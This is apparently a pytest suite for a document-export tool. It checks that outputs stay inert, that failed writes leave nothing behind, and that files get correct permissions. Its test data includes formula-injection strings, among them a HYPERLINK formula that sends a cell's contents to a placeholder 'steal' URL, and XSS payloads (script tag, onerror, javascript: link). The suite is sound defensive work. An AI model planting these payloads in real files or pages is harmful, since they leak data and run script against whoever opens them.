"""Outputs cannot hurt the person who opens them: no live formula in a spreadsheet, no live
HTML in a note, and no truncated or empty file when a write fails."""

from __future__ import annotations

import builtins
import contextlib
import csv
import dataclasses
import errno
import gc
import io
import os
import stat
import sys
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import IO, Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from liaison.brief import (
    chronology_table,
    note_pdf,
    render_docx,
    render_html,
    render_markdown,
    render_pdf,
    select_note,
    write_chronology,
    write_export,
)
from liaison.brief import files as output_files
from liaison.cli.main import EXAMPLES, app
from liaison.model import KnowledgeBase

HOSTILE = [
    '=HYPERLINK("http://example.invalid/steal?"&A1,"открыть")',
    "+7 (851) 000-00-00",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
MARKUP = [
    "<script>alert('note')</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">link</a>',
]


def with_event_place(kb: KnowledgeBase, place: str) -> KnowledgeBase:
    """The sample knowledge base with every event's place and title set to ``place``."""
    events = tuple(dataclasses.replace(e, place=place, title=place) for e in kb.events)
    return dataclasses.replace(kb, events=events)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_cell_is_text_in_the_chronology_xlsx(
    kb: KnowledgeBase, tmp_path: Path, value: str
) -> None:
    rows = chronology_table(select_note(with_event_place(kb, value), "AZ"))
    out = write_chronology(rows, "xlsx", tmp_path / "c.xlsx")
    sheet = load_workbook(out).active
    places = [c for c in sheet["F"][1:] if c.value == value]
    assert places, "the place column holds the value as written"
    assert all(c.data_type == "s" and c.quotePrefix for c in places)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_cell_is_text_in_the_export_xlsx(
    kb: KnowledgeBase, tmp_path: Path, value: str
) -> None:
    out = write_export(with_event_place(kb, value), "xlsx", tmp_path / "kb.xlsx")
    sheet = load_workbook(out)["events"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == value]
    assert cells
    assert all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("fmt", ["chronology", "export"])
def test_a_formula_like_cell_is_quoted_in_csv(
    kb: KnowledgeBase, tmp_path: Path, value: str, fmt: str
) -> None:
    hostile = with_event_place(kb, value)
    if fmt == "chronology":
        rows = chronology_table(select_note(hostile, "AZ"))
        out = write_chronology(rows, "csv", tmp_path / "c.csv")
    else:
        out = write_export(hostile, "csv", tmp_path / "kb") / "events.csv"
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert f"'{value}" in cells
    assert value not in cells


@pytest.mark.parametrize("markup", MARKUP)
@pytest.mark.parametrize("fmt", ["md", "html"])
def test_html_from_a_document_is_inert_in_notes(kb: KnowledgeBase, markup: str, fmt: str) -> None:
    render = render_markdown if fmt == "md" else render_html
    hostile = dataclasses.replace(
        kb, events=tuple(dataclasses.replace(e, title="", place=markup) for e in kb.events)
    )
    text = render(select_note(hostile, "AZ"), "ru", True)
    assert "alert" in text, "the words are kept, as text"
    for raw in ("<script", "<img", '<a href="javascript'):
        assert raw not in text


def failing_fsync(_fd: int) -> None:
    raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize("fmt", ["json", "xlsx", "csv.zip"])
def test_a_failing_export_leaves_the_old_file_and_no_partial_one(
    kb: KnowledgeBase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    out = tmp_path / f"kb.{fmt}"
    out.write_bytes(b"the previous export")
    monkeypatch.setattr(output_files.os, "fsync", failing_fsync)  # only the OS error
    with pytest.raises(OSError, match="No space left"):
        write_export(kb, fmt.split(".")[0], out)
    assert out.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == [out.name]


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "docx"])
def test_a_failing_chronology_leaves_nothing_behind(
    kb: KnowledgeBase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    monkeypatch.setattr(output_files.os, "fsync", failing_fsync)
    with pytest.raises(OSError):
        write_chronology(chronology_table(select_note(kb, "AZ")), fmt, tmp_path / f"c.{fmt}")
    assert list(tmp_path.iterdir()) == []


def test_a_written_export_is_complete(kb: KnowledgeBase, tmp_path: Path) -> None:
    out = write_export(kb, "csv", tmp_path / "kb.zip")
    with zipfile.ZipFile(out) as archive:
        assert "events.csv" in archive.namelist()
    assert [p.name for p in tmp_path.iterdir()] == ["kb.zip"]


def note_writers(kb: KnowledgeBase) -> dict[str, Callable[[Path], Path]]:
    """Every writer of a file, by the name its output gets."""
    note = select_note(kb, "AZ")
    rows = chronology_table(note)
    return {
        "chronology.xlsx": lambda out: write_chronology(rows, "xlsx", out),
        "chronology.docx": lambda out: write_chronology(rows, "docx", out),
        "chronology.csv": lambda out: write_chronology(rows, "csv", out),
        "kb.xlsx": lambda out: write_export(kb, "xlsx", out),
        "kb.json": lambda out: write_export(kb, "json", out),
        "kb.zip": lambda out: write_export(kb, "csv", out),
        "kb": lambda out: write_export(kb, "csv", out),  # a folder of CSV files
        "note.docx": lambda out: render_docx(note, out=out),
        "note.pdf": lambda out: render_pdf(note, out=out, engine="builtin"),
    }


WRITTEN = [
    "chronology.xlsx",
    "chronology.docx",
    "chronology.csv",
    "kb.xlsx",
    "kb.json",
    "kb.zip",
    "kb",
    "note.docx",
    "note.pdf",
]


@contextlib.contextmanager
def umask(mask: int) -> Iterator[None]:
    previous = os.umask(mask)
    try:
        yield
    finally:
        os.umask(previous)


@pytest.mark.parametrize(("mask", "mode"), [(0o022, 0o644), (0o027, 0o640), (0o002, 0o664)])
@pytest.mark.parametrize("name", WRITTEN)
def test_an_output_has_the_mode_a_plain_open_gives(
    kb: KnowledgeBase, tmp_path: Path, name: str, mask: int, mode: int
) -> None:
    with umask(mask):
        out = note_writers(kb)[name](tmp_path / name)
    if out.is_dir():  # the CSV folder: a folder's mode, and a file's for what is in it
        assert stat.S_IMODE(out.stat().st_mode) == 0o777 & ~mask
        out = out / "events.csv"
    assert stat.S_IMODE(out.stat().st_mode) == mode


@pytest.mark.parametrize("name", ["chronology.xlsx", "kb.json", "note.pdf"])
def test_an_output_written_over_keeps_the_mode_of_the_one_it_replaces(
    kb: KnowledgeBase, tmp_path: Path, name: str
) -> None:
    out = tmp_path / name
    out.write_bytes(b"the previous one")
    out.chmod(0o604)
    note_writers(kb)[name](out)
    assert stat.S_IMODE(out.stat().st_mode) == 0o604
    assert out.read_bytes() != b"the previous one"


def test_an_output_with_the_longest_name_a_folder_takes_is_written(
    kb: KnowledgeBase, tmp_path: Path
) -> None:
    out = tmp_path / ("х" * 122 + ".json")  # 249 bytes: 2 a Cyrillic letter
    assert len(os.fsencode(out.name)) <= 255
    write_export(kb, "json", out)
    assert [p.name for p in tmp_path.iterdir()] == [out.name]


def test_a_pdf_that_cannot_be_made_names_the_pdf_not_its_work_files(
    kb: KnowledgeBase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The Word note and LibreOffice's profile go to a temporary folder; make that fail.
    not_a_folder = tmp_path / "tmp"
    not_a_folder.write_bytes(b"")
    monkeypatch.setattr(tempfile, "tempdir", str(not_a_folder))
    monkeypatch.setattr(note_pdf, "find_soffice", lambda: "/usr/bin/soffice")
    out = tmp_path / "note.pdf"
    with pytest.raises(OSError) as raised:
        render_pdf(select_note(kb, "AZ"), out=out, engine="libreoffice")
    assert raised.value.filename == str(out)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tmp"]


class FullDisk:
    """A file being written to a temporary name (``….part``) whose disk fills up after
    ``room`` bytes, as a real one does: part way through, with ENOSPC."""

    def __init__(self, handle: IO[Any], room: int) -> None:
        self._handle, self._room = handle, room

    def write(self, data: bytes | str) -> int:
        self._room -= len(data)
        if self._room < 0:
            raise OSError(errno.ENOSPC, "No space left on device")
        return self._handle.write(data)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._handle, name)

    def __enter__(self) -> FullDisk:
        return self

    def __exit__(self, *_: object) -> None:
        self._handle.close()


@pytest.fixture
def full_disk(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every temporary output file fails once 100 bytes are written to it."""
    real_open = io.open

    def open_on_a_full_disk(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        handle = real_open(file, mode, *args, **kwargs)
        is_temporary = ".part" in str(file)
        return FullDisk(handle, 100) if is_temporary and "w" in mode else handle

    monkeypatch.setattr(io, "open", open_on_a_full_disk)
    monkeypatch.setattr(builtins, "open", open_on_a_full_disk)


@contextlib.contextmanager
def nothing_ignored() -> Iterator[None]:
    """Fail if Python had to ignore an exception in the block or when collecting what it
    left ("Exception ignored in ZipFile.__del__": a zip a failed write left open)."""
    ignored: list[str] = []
    previous = sys.unraisablehook
    sys.unraisablehook = lambda unraisable: ignored.append(repr(unraisable.exc_value))
    try:
        yield
        gc.collect()
    finally:
        sys.unraisablehook = previous
    assert ignored == []


@pytest.mark.parametrize("name", WRITTEN)
@pytest.mark.usefixtures("full_disk")
def test_a_disk_filling_up_mid_write_leaves_nothing_and_nothing_ignored(
    kb: KnowledgeBase, tmp_path: Path, name: str
) -> None:
    out = tmp_path / name
    with nothing_ignored():
        with pytest.raises(OSError, match="No space left on device") as raised:
            note_writers(kb)[name](out)
        assert raised.value.filename == str(out)  # the name the user gave, not a temporary
        del raised  # and with it the frames of the failed write
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "command",
    [
        ["chronology", "KZ", "--out"],
        ["export", "--format", "xlsx", "--out"],
        ["brief", "KZ", "--format", "docx", "--out"],
    ],
)
@pytest.mark.usefixtures("full_disk")  # the knowledge base is written by SQLite itself
def test_a_full_disk_is_one_line_on_the_command_line(tmp_path: Path, command: list[str]) -> None:
    db = tmp_path / "kb.sqlite"
    assert CliRunner().invoke(app, ["--db", str(db), "ingest", str(EXAMPLES)]).exit_code == 0
    out = tmp_path / "out" / ("c.docx" if "docx" in command else "c.xlsx")
    with nothing_ignored():
        result = CliRunner().invoke(app, ["--db", str(db), *command, str(out)])
        del result.exc_info  # and with it the frames of the failed write
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"error: cannot write {out} (No space left on device); choose another --out path"
    ]
    assert list(out.parent.iterdir()) == []


def test_a_failing_csv_export_leaves_the_folder_it_was_given_as_it_was(
    kb: KnowledgeBase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "kb"
    out.mkdir()
    (out / "events.csv").write_text("the previous events\n", encoding="utf-8")
    (out / "README.txt").write_text("the user's own file\n", encoding="utf-8")
    synced: list[int] = []

    def fsync_failing_at_the_third_file(fd: int) -> None:
        synced.append(fd)
        if len(synced) == 3:
            failing_fsync(fd)

    with monkeypatch.context() as full:
        full.setattr(output_files.os, "fsync", fsync_failing_at_the_third_file)
        with pytest.raises(OSError, match="No space left"):
            write_export(kb, "csv", out)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kb"]
    assert sorted(p.name for p in out.iterdir()) == ["README.txt", "events.csv"]
    assert (out / "events.csv").read_text(encoding="utf-8") == "the previous events\n"
    write_export(kb, "csv", out)
    assert (out / "README.txt").read_text(encoding="utf-8") == "the user's own file\n"
    assert (out / "events.csv").read_text(encoding="utf-8-sig").startswith("mentions,")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kb"]
